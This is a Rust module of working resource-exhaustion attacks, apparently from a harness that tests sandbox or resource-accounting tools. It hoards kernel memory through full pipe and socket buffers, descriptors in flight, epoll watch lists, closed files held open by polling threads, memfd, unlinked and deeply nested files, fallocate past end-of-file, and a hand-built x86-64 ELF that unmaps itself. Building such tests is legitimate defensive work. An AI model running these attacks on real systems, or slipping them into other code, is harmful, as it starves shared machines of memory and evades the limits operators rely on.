//! Attacks that hold memory of the kernel in open files: pipes, sockets, folders and queues; or files without a
//! name, or blocks that no size tells.

use std::env;
use std::fs::{self, File, OpenOptions, Permissions};
use std::io::{self, Read, Write};
use std::os::fd::{AsRawFd, OwnedFd, RawFd};
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
use std::os::unix::net::UnixStream;
use std::process::Command;
use std::ptr::null_mut;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::channel;
use std::thread::sleep;
use std::time::Duration;

use nix::fcntl::{FcntlArg, fcntl};
use nix::sys::socket::{ControlMessage, MsgFlags, sendmsg};
use rustix::fs::{
    FallocateFlags, MemfdFlags, OFlags, fallocate, fcntl_setfl, memfd_create, sendfile,
};
use rustix::io::ioctl_fionread;
use rustix::net::sockopt::set_socket_send_buffer_size;

use super::memory::{CHUNK, hold, map};
use super::{AttackTargets, Result, achieved, call, why};

/// Writes until the buffer of a pipe or a socket is full, which does not wait. Returns the bytes that it holds.
fn fill(mut end: impl Write) -> u64 {
    let mut held = 0;
    while let Ok(written) = end.write(&[1; 4096]) {
        held += written as u64;
    }
    held
}

/// Makes things, each with the bytes that it holds, until they hold enough together.
fn gather<T>(enough: u64, mut make: impl FnMut() -> io::Result<(u64, T)>) -> Result<(u64, Vec<T>)> {
    let (mut held, mut kept) = (0, Vec::new());
    while held < enough {
        let (bytes, made) = make().map_err(|error| format!("{error}, with {held} bytes"))?;
        held += bytes;
        kept.push(made);
    }
    Ok((held, kept))
}

/// Returns a full pipe, made as large as the system lets it if it is to be `large`, and the bytes that it holds.
fn full_pipe(large: bool) -> io::Result<(u64, [OwnedFd; 2])> {
    let (reader, writer) = io::pipe()?;
    if large {
        let _ = fcntl(&writer, FcntlArg::F_SETPIPE_SZ(1 << 20));
    }
    fcntl_setfl(&writer, OFlags::NONBLOCK)?;
    Ok((fill(&writer), [reader.into(), writer.into()]))
}

pub(super) fn pipes(targets: &AttackTargets) -> Result {
    let (held, kept) = gather(targets.memory, || full_pipe(true))?;
    hold(held, kept)
}

/// Returns a pair of sockets with full buffers, and the bytes that they hold.
fn full_pair() -> io::Result<(u64, [UnixStream; 2])> {
    let (one, other) = UnixStream::pair()?;
    let mut held = 0;
    for end in [&one, &other] {
        end.set_nonblocking(true)?;
        held += fill(end);
    }
    Ok((held, [one, other]))
}

pub(super) fn sockets(targets: &AttackTargets) -> Result {
    // On an error, the others stay until a look counts them.
    let make = || full_pair().inspect_err(|_| sleep(Duration::from_secs(5)));
    let (held, kept) = gather(targets.memory, make)?;
    hold(held, kept)
}

/// Sends full pipes through a socket that no process reads, so that no process has them open.
pub(super) fn in_flight(targets: &AttackTargets) -> Result {
    let (one, other) = UnixStream::pair().map_err(why)?;
    let (sent, _) = gather(targets.memory, || {
        let (held, kept) = gather(1 << 20, || full_pipe(true)).map_err(io::Error::other)?;
        let descriptors: Vec<_> = kept.iter().flatten().map(AsRawFd::as_raw_fd).collect();
        let message = [ControlMessage::ScmRights(&descriptors)];
        let (content, flags) = ([io::IoSlice::new(b"x")], MsgFlags::MSG_DONTWAIT);
        sendmsg::<()>(one.as_raw_fd(), &content, &message, flags, None)?;
        Ok((held, ()))
    })?;
    hold(sent, other)
}

/// Fills the buffers of sockets, each made as large as the system lets it.
pub(super) fn large_sockets(targets: &AttackTargets) -> Result {
    let mut is_larger = false;
    let (held, kept) = gather(targets.memory, || {
        let (one, other) = UnixStream::pair()?;
        let enlarged = set_socket_send_buffer_size(&one, 64 << 20);
        is_larger |= enlarged.is_ok();
        if !is_larger {
            enlarged?;
        }
        one.set_nonblocking(true)?;
        Ok((fill(&one), (one, other)))
    })?;
    hold(held, kept)
}

/// Watches the same few files under many numbers, in several queues of events, or in one, whose list is longer than any
/// look reads.
pub(super) fn watch(queues: usize) -> Result {
    const EACH: u64 = 200;
    const FILES: libc::c_int = 400;
    let (mut watched, first) = (0_u64, 500);
    // SAFETY: the calls take numbers, and a pointer to a value that outlives the call.
    unsafe {
        let queues: Vec<_> =
            (0..queues).map(|_| libc::epoll_create1(libc::EPOLL_CLOEXEC)).collect();
        for _ in 0..FILES {
            let file = libc::eventfd(0, libc::EFD_CLOEXEC);
            for number in first..first + FILES {
                libc::dup2(file, number);
                for &queue in &queues {
                    let mut event = libc::epoll_event { events: libc::EPOLLIN as u32, u64: 0 };
                    let added = libc::epoll_ctl(queue, libc::EPOLL_CTL_ADD, number, &raw mut event);
                    watched += u64::from(added == 0);
                }
            }
        }
    }
    if watched < 100_000 {
        return Err(format!("{watched} files are watched"));
    }
    hold(watched * EACH, ())
}

/// Keeps pages of files in pipes, a byte of each.
pub(super) fn spliced(_: &AttackTargets) -> Result {
    let file = File::open("/usr/bin/env").map_err(why)?;
    let (_reader, writer) = io::pipe().map_err(why)?;
    // SAFETY: the call takes numbers only.
    let result =
        unsafe { libc::splice(file.as_raw_fd(), null_mut(), writer.as_raw_fd(), null_mut(), 1, 0) };
    call("a page", result as libc::c_long)
}

/// Sends pages of a file into a pipe, a byte of each.
pub(super) fn sent(_: &AttackTargets) -> Result {
    let file = File::open("/usr/bin/env").map_err(why)?;
    let (_reader, writer) = io::pipe().map_err(why)?;
    achieved("a page", sendfile(&writer, &file, None, 1))
}

/// Waits for sockets that are closed meanwhile: no process has them open then, and they live on.
pub(super) fn polled(targets: &AttackTargets) -> Result {
    keep_by_waits(targets, full_pair)
}

/// Keeps closed pipes by threads that wait for them.
pub(super) fn polled_pipes(targets: &AttackTargets) -> Result {
    keep_by_waits(targets, || full_pipe(false))
}

/// Waits for pairs that are made with the bytes that they hold, and closes them.
fn keep_by_waits<E: AsRawFd>(
    targets: &AttackTargets,
    make: impl Fn() -> io::Result<(u64, [E; 2])>,
) -> Result {
    const PAIRS: usize = 30;
    let mut held = 0;
    while held < targets.memory {
        let mut kept = Vec::new();
        for _ in 0..PAIRS {
            let (bytes, pair) = make().map_err(|error| format!("{error}, with {held} bytes"))?;
            held += bytes;
            kept.extend(pair);
        }
        poll_in_thread(kept.iter().map(AsRawFd::as_raw_fd))?;
    }
    hold_by_waits(held)
}

/// If true, a wait has ended: after a stop, a thread waits for its files anew, and closed ones are gone.
static HAS_WAITED: AtomicBool = AtomicBool::new(false);

fn hold_by_waits(held: u64) -> Result {
    let held = hold(held, ());
    if HAS_WAITED.load(Ordering::Relaxed) { Err("a wait has ended".to_owned()) } else { held }
}

/// Starts a thread that waits for files for ever. When it waits, it keeps them, although they are closed.
fn poll_in_thread(files: impl Iterator<Item = RawFd>) -> Result<()> {
    let mut polled: Vec<_> = files.map(|fd| libc::pollfd { fd, events: 0, revents: 0 }).collect();
    let (sender, started) = channel();
    let thread = std::thread::Builder::new().spawn(move || {
        let _ = sender.send(());
        // SAFETY: the pointer is to as many values as are named.
        unsafe { libc::poll(polled.as_mut_ptr(), polled.len() as libc::nfds_t, -1) };
        HAS_WAITED.store(true, Ordering::Relaxed);
    });
    thread.map_err(why)?;
    started.recv().map_err(why)?;
    sleep(Duration::from_millis(20));
    Ok(())
}

/// Keeps the buffers of files that tell of a mapping with a long path.
pub(super) fn told_paths(targets: &AttackTargets) -> Result {
    const FOLDERS: usize = 200;
    const FILES: usize = 900;
    for _ in 0..FOLDERS {
        // The kernel writes every such letter as four.
        let name = "\n".repeat(250);
        fs::create_dir(&name).and_then(|()| env::set_current_dir(&name)).map_err(why)?;
    }
    fs::write("mapped", [1; CHUNK]).map_err(why)?;
    let file = File::open("mapped").map_err(why)?;
    map(CHUNK, libc::PROT_READ, libc::MAP_PRIVATE, Some(&file))?;
    let mut kept = Vec::new();
    let mut told = Vec::new();
    for _ in 0..FILES {
        let mut maps = File::open("/proc/self/maps").map_err(why)?;
        told.clear();
        maps.read_to_end(&mut told).map_err(why)?;
        kept.push(maps);
    }
    // The buffer of each has the longest line.
    let longest = told.split(|&byte| byte == b'\n').map(<[u8]>::len).max().unwrap_or(0) as u64;
    let held = longest * FILES as u64;
    if held < targets.memory / 3 {
        return Err(format!("{held} bytes"));
    }
    hold(held, kept)
}

/// Reads the beginnings of folders of the system: the kernel keeps names of each for the next call.
pub(super) fn read_folders(_: &AttackTargets) -> Result {
    const READERS: usize = 28;
    const FOLDERS: usize = 1000;
    /// The least that the kernel was seen to keep.
    const NAMES: usize = 10 << 10;
    let (mut reader, writer) = io::pipe().map_err(why)?;
    for _ in 0..READERS {
        // SAFETY: the child calls the system alone, with memory that outlives the calls, and ends by itself.
        unsafe {
            if libc::fork() != 0 {
                continue;
            }
            let mut names = [0_u64; 64];
            for _ in 0..FOLDERS {
                let folder = libc::open(c"/usr/bin".as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY);
                libc::syscall(libc::SYS_getdents64, folder, names.as_mut_ptr(), 256);
            }
            libc::write(writer.as_raw_fd(), c"x".as_ptr().cast(), 1);
            libc::sleep(1000);
            libc::_exit(0);
        }
    }
    drop(writer);
    reader.read_exact(&mut [0; READERS]).map_err(why)?;
    hold((READERS * FOLDERS * NAMES) as u64, ())
}

/// Waits for queues of events that are closed meanwhile, each of which watches many files.
pub(super) fn polled_queues(targets: &AttackTargets) -> Result {
    /// As many as may be open at once.
    const QUEUES: usize = 30;
    const FIRST: RawFd = 200;
    const WATCHES: RawFd = 600;
    /// The memory of a watch, in bytes.
    const WATCH: u64 = 160;
    let (reader, _writer) = io::pipe().map_err(why)?;
    let mut held = 0;
    // More than may be occupied, by as many threads as there may be.
    while held < targets.memory / 2 {
        let mut queues = Vec::new();
        for _ in 0..QUEUES {
            // SAFETY: the calls take numbers, and a pointer to a value that outlives the call. The numbers of files are
            // those of none that is used otherwise.
            unsafe {
                let queue = libc::epoll_create1(0);
                call("a queue", queue.into())?;
                for number in FIRST..FIRST + WATCHES {
                    libc::dup2(reader.as_raw_fd(), number);
                    let mut event = libc::epoll_event { events: libc::EPOLLPRI as u32, u64: 0 };
                    let added = libc::epoll_ctl(queue, libc::EPOLL_CTL_ADD, number, &raw mut event);
                    call("a watch", added.into())?;
                }
                queues.push(queue);
            }
            held += WATCHES as u64 * WATCH;
        }
        poll_in_thread(queues.iter().copied())?;
        for queue in queues {
            // SAFETY: the calls take a number.
            unsafe { libc::close(queue) };
        }
    }
    hold_by_waits(held)
}

/// Makes pipes with a name.
pub(super) fn named_pipes(_: &AttackTargets) -> Result {
    let mode = nix::sys::stat::Mode::S_IRWXU;
    achieved("a pipe", nix::unistd::mkfifo("pipe", mode))
}

pub(super) fn memfd(targets: &AttackTargets) -> Result {
    let file = memfd_create("hoard", MemfdFlags::empty()).map_err(why)?;
    let mut file = File::from(file);
    for _ in 0..targets.memory / CHUNK as u64 {
        file.write_all(&[1; CHUNK]).map_err(why)?;
    }
    hold(targets.memory, file)
}

pub(super) fn unlinked(targets: &AttackTargets) -> Result {
    let (held, kept) = gather(targets.memory, || {
        let mut file = File::create("gone")?;
        file.write_all(&[1; CHUNK])?;
        fs::remove_file("gone")?;
        Ok((CHUNK as u64, file))
    })?;
    hold(held, kept)
}

/// Holds files without a name by a mapping of their first pages.
pub(super) fn mapped(_: &AttackTargets) -> Result {
    const FILES: u64 = 10;
    const SIZE: usize = 24 << 20;
    for number in 0..FILES {
        let path = format!("mapped-{number}");
        fs::write(&path, vec![1; SIZE]).map_err(why)?;
        let file = File::open(&path).map_err(why)?;
        map(4096, libc::PROT_READ, libc::MAP_PRIVATE, Some(&file))?;
        fs::remove_file(path).map_err(why)?;
        sleep(Duration::from_millis(100));
    }
    hold(FILES * SIZE as u64, ())
}

/// Works in folders without a name, which have grown by names that are gone.
pub(super) fn working_folders(_: &AttackTargets) -> Result {
    const LINKS: usize = 6_000;
    let mut held = 0;
    let mut kept = Vec::new();
    for number in 0..30 {
        let name = format!("folder-{number}");
        fs::create_dir(&name).map_err(why)?;
        let links = (0..LINKS).map(|link| format!("{name}/{link:0200}"));
        let links: Vec<String> = links.collect();
        for link in &links {
            std::os::unix::fs::symlink("x", link).map_err(why)?;
        }
        for link in &links {
            fs::remove_file(link).map_err(why)?;
        }
        held += std::os::unix::fs::MetadataExt::blocks(&fs::metadata(&name).map_err(why)?) * 512;
        // On a busy computer, the work takes minutes.
        let child = Command::new("/bin/sleep").arg("1000").current_dir(&name).spawn();
        kept.push(child.map_err(why)?);
        fs::remove_dir(&name).map_err(why)?;
    }
    // More than the output of a program under attack may be.
    if held < 32 << 20 {
        return Err(format!("{held} bytes"));
    }
    let held = hold(held, ());
    for mut child in kept {
        if child.try_wait().map_err(why)?.is_some() {
            return Err("a folder is gone, because no process works in it".to_owned());
        }
        child.kill().and_then(|()| child.wait()).map_err(why)?;
    }
    held
}

/// Holds files without a name in a folder whose path no link can tell.
pub(super) fn deep(targets: &AttackTargets) -> Result {
    for _ in 0..20 {
        let name = "p".repeat(250);
        fs::create_dir(&name).and_then(|()| env::set_current_dir(&name)).map_err(why)?;
    }
    unlinked(targets)
}

/// Holds programs without a name that are executed, and no part of which is mapped.
pub(super) fn unmapped(_: &AttackTargets) -> Result {
    const PROGRAMS: u64 = 10;
    const SIZE: u64 = 24 << 20;
    let here = env::current_dir().map_err(why)?;
    let mut kept = Vec::new();
    for number in 0..PROGRAMS {
        let path = here.join(format!("program-{number}"));
        let mut file = File::create(&path).map_err(why)?;
        file.write_all(&program_that_unmaps_itself()?).map_err(why)?;
        for _ in 0..SIZE / CHUNK as u64 {
            file.write_all(&[1; CHUNK]).map_err(why)?;
        }
        fs::set_permissions(&path, Permissions::from_mode(0o700)).map_err(why)?;
        drop(file);
        kept.push(Command::new(&path).spawn().map_err(why)?);
        fs::remove_file(path).map_err(why)?;
        sleep(Duration::from_millis(100));
    }
    let held = hold(PROGRAMS * SIZE, ());
    for mut child in kept {
        child.kill().and_then(|()| child.wait()).map_err(why)?;
    }
    held
}

/// Returns a program that copies itself into memory, unmaps itself, and waits.
fn program_that_unmaps_itself() -> Result<Vec<u8>> {
    if !cfg!(target_arch = "x86_64") {
        return Err("the program is for another processor".to_owned());
    }
    const PLACE: u64 = 0x40_0000;
    const PAGE: u64 = 4096;
    const HEADERS: u64 = 64 + 56;
    // mmap(0, 4096, all, private | anonymous, -1, 0), a copy of the rest to there, and a jump.
    const COPY: [u8; 52] = [
        0xb8, 0x09, 0x00, 0x00, 0x00, 0x31, 0xff, 0xbe, 0x00, 0x10, 0x00, 0x00, 0xba, 0x07, 0x00,
        0x00, 0x00, 0x41, 0xba, 0x22, 0x00, 0x00, 0x00, 0x49, 0xc7, 0xc0, 0xff, 0xff, 0xff, 0xff,
        0x45, 0x31, 0xc9, 0x0f, 0x05, 0x48, 0x89, 0xc7, 0x48, 0x8d, 0x35, 0x09, 0x00, 0x00, 0x00,
        0xb9, 0x20, 0x00, 0x00, 0x00, 0xf3, 0xa4,
    ];
    const JUMP: [u8; 2] = [0xff, 0xe0];
    // munmap(PLACE, 4096), and pause() for ever.
    const REST: [u8; 26] = [
        0xb8, 0x0b, 0x00, 0x00, 0x00, 0xbf, 0x00, 0x00, 0x40, 0x00, 0xbe, 0x00, 0x10, 0x00, 0x00,
        0x0f, 0x05, 0xb8, 0x22, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xeb, 0xf7,
    ];
    let mut program = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    let words = |words: &[u64], length: usize| -> Vec<u8> {
        words.iter().flat_map(|word| word.to_le_bytes().into_iter().take(length)).collect()
    };
    // An executable for x86-64, its entry, and one segment that is read and executed.
    program.extend(words(&[2, 62], 2));
    program.extend(words(&[1], 4));
    program.extend(words(&[PLACE + HEADERS, 64, 0], 8));
    program.extend(words(&[0], 4));
    program.extend(words(&[64, 56, 1, 0, 0, 0], 2));
    program.extend(words(&[1, 5], 4));
    program.extend(words(&[0, PLACE, PLACE, PAGE, PAGE, PAGE], 8));
    program.extend(COPY.iter().chain(&JUMP).chain(&REST));
    Ok(program)
}

/// Claims blocks behind the end of a file, which has no size.
pub(super) fn behind_end(_: &AttackTargets) -> Result {
    let file = File::create("behind").map_err(why)?;
    fallocate(&file, FallocateFlags::KEEP_SIZE, 0, 600 << 20).map_err(why)?;
    Ok("600 MiB behind the end of a file".to_owned())
}

/// Prints, and reads what it has printed itself: one that waits for that between its look and its read waits for
/// ever. What it prints is blank, since its report comes after it.
pub(super) fn take_back(_: &AttackTargets) -> Result {
    const TRIES: usize = 200_000;
    const SETTLED: Duration = Duration::from_secs(1);
    let mut printed = OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK)
        .open("/proc/self/fd/1")
        .map_err(why)?;
    for _ in 0..TRIES {
        io::stdout().write_all(b"\n").map_err(why)?;
        io::stdout().flush().map_err(why)?;
        let _ = printed.read(&mut [0; 64]);
    }
    eprintln!("complaint");
    sleep(SETTLED);
    match ioctl_fionread(io::stderr()) {
        Ok(0) => Err("all is read".to_owned()),
        found => Ok(format!("{} bytes are not read", found.map_err(why)?)),
    }
}
